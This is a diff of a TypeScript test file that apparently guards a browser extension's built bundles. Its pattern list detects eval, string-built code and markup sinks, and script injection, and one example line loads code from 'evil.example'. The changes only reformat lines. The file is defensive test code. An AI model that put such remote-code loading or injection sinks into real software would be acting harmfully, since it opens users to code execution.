@@ -17,7 +17,11 @@ const FORBIDDEN: readonly (readonly [string, RegExp, string])[] = [
   ['eval', /\beval\b/, 'window.eval("1")'],
   ['a function made of text', /\bFunction\s*\(/, 'new Function("return this")'],
   ['a timer that is given text', /\bset(?:Timeout|Interval)\s*\(\s*["'`]/, 'setTimeout("x()", 1)'],
-  ['markup made of text', /\b(?:innerHTML|outerHTML|insertAdjacentHTML|createContextualFragment|srcdoc|setHTMLUnsafe|parseFromString)\b/, 'e.innerHTML=t'],
+  [
+    'markup made of text',
+    /\b(?:innerHTML|outerHTML|insertAdjacentHTML|createContextualFragment|srcdoc|setHTMLUnsafe|parseFromString)\b/,
+    'e.innerHTML=t',
+  ],
   ['markup written', /\bdocument\.write/, 'document.write(t)'],
   ['code loaded later', /\bimport\s*\(|\bimportScripts\b/, 'import("https://evil.example/x.js")'],
   ['a script element', /createElement\(\s*["'`]script/i, 'document.createElement("script")'],
@@ -40,13 +44,17 @@ it.each(FORBIDDEN)('%s would be found', (_, pattern, example) => {
 describe.each(TARGETS)('what ships for %s', (target) => {
   const read = async (kind: RegExp): Promise<readonly (readonly [string, string])[]> => {
     const files = (await filesBelow(dirOf(target))).filter((file) => kind.test(file));
-    return Promise.all(files.map(async (file) => [file, await readFile(path.join(dirOf(target), file), 'utf8')] as const));
+    return Promise.all(
+      files.map(async (file) => [file, await readFile(path.join(dirOf(target), file), 'utf8')] as const),
+    );
   };
 
   it('makes no code and no markup from text, and loads no code from elsewhere', async () => {
     const bundles = await read(/\.js$/);
     expect(bundles).toHaveLength(8);
-    const found = bundles.flatMap(([file, text]) => FORBIDDEN.flatMap(([what, pattern]) => (pattern.test(text) ? [`${file}: ${what}`] : [])));
+    const found = bundles.flatMap(([file, text]) =>
+      FORBIDDEN.flatMap(([what, pattern]) => (pattern.test(text) ? [`${file}: ${what}`] : [])),
+    );
     expect(found).toEqual([]);
   });
 
@@ -65,11 +73,29 @@ describe.each(TARGETS)('what ships for %s', (target) => {
   it('brings the licence of each library that is in a bundle', async () => {
     const metafile = JSON.parse(await readFile(metafileBeside(dirOf(target)), 'utf8')) as Metafile;
     const packages = await bundledPackages(root, metafile);
-    expect(packages.map(({ name }) => name)).toEqual(expect.arrayContaining(['preact', 'valibot', 'idb', 'socket.io-client', 'webextension-polyfill', 'libphonenumber-js']));
+    expect(packages.map(({ name }) => name)).toEqual(
+      expect.arrayContaining([
+        'preact',
+        'valibot',
+        'idb',
+        'socket.io-client',
+        'webextension-polyfill',
+        'libphonenumber-js',
+      ]),
+    );
     // The two generations of one library are two.
-    expect(packages.filter(({ name }) => name === 'socket.io-client').map(({ version }) => version[0])).toEqual(['2', '4']);
-    const licences = (await readFile(path.join(dirOf(target), 'LICENSES.txt'), 'utf8')).split(/^-{100}$/m).map((part) => part.trim());
-    const missing = packages.filter(({ name, version }) => !licences.some((part) => part.startsWith(`${name} ${version}\n`) && /copyright|mozilla public license/i.test(part)));
+    expect(
+      packages.filter(({ name }) => name === 'socket.io-client').map(({ version }) => version[0]),
+    ).toEqual(['2', '4']);
+    const licences = (await readFile(path.join(dirOf(target), 'LICENSES.txt'), 'utf8'))
+      .split(/^-{100}$/m)
+      .map((part) => part.trim());
+    const missing = packages.filter(
+      ({ name, version }) =>
+        !licences.some(
+          (part) => part.startsWith(`${name} ${version}\n`) && /copyright|mozilla public license/i.test(part),
+        ),
+    );
     expect(missing).toEqual([]);
     expect(licences).toHaveLength(packages.length + 1);
   });
@@ -77,18 +103,32 @@ describe.each(TARGETS)('what ships for %s', (target) => {
   it('holds no library whose advisories nobody has answered (docs/security-advisories.md)', async () => {
     const metafile = JSON.parse(await readFile(metafileBeside(dirOf(target)), 'utf8')) as Metafile;
     const bundled = (await bundledPackages(root, metafile)).map(({ name, version }) => `${name} ${version}`);
-    const [answered = ''] = (await readFile(path.join(root, 'docs/security-advisories.md'), 'utf8')).split('\n## ');
-    expect([...answered.matchAll(/^\| (\S+ \d\S*) \|/gm)].map(([, row]) => row).sort()).toEqual([...bundled].sort());
+    const [answered = ''] = (await readFile(path.join(root, 'docs/security-advisories.md'), 'utf8')).split(
+      '\n## ',
+    );
+    expect([...answered.matchAll(/^\| (\S+ \d\S*) \|/gm)].map(([, row]) => row).sort()).toEqual(
+      [...bundled].sort(),
+    );
   });
 
   it('brings its own licence', async () => {
-    expect(await readFile(path.join(dirOf(target), 'LICENSE'), 'utf8')).toBe(await readFile(path.join(root, 'LICENSE'), 'utf8'));
+    expect(await readFile(path.join(dirOf(target), 'LICENSE'), 'utf8')).toBe(
+      await readFile(path.join(root, 'LICENSE'), 'utf8'),
+    );
   });
 });
 
 it('our own code asks for none of what was taken out of the libraries, and hears no other extension', async () => {
   const sources = (await filesBelow(path.join(root, 'src'))).filter((file) => /\.tsx?$/.test(file));
   expect(sources.length).toBeGreaterThan(50);
-  const texts = await Promise.all(sources.map(async (file) => [file, await readFile(path.join(root, 'src', file), 'utf8')] as const));
-  expect(texts.filter(([, text]) => /dangerouslySetInnerHTML|devtools|on(?:Message|Connect|UserScriptMessage)External/.test(text)).map(([file]) => file)).toEqual([]);
+  const texts = await Promise.all(
+    sources.map(async (file) => [file, await readFile(path.join(root, 'src', file), 'utf8')] as const),
+  );
+  expect(
+    texts
+      .filter(([, text]) =>
+        /dangerouslySetInnerHTML|devtools|on(?:Message|Connect|UserScriptMessage)External/.test(text),
+      )
+      .map(([file]) => file),
+  ).toEqual([]);
 });
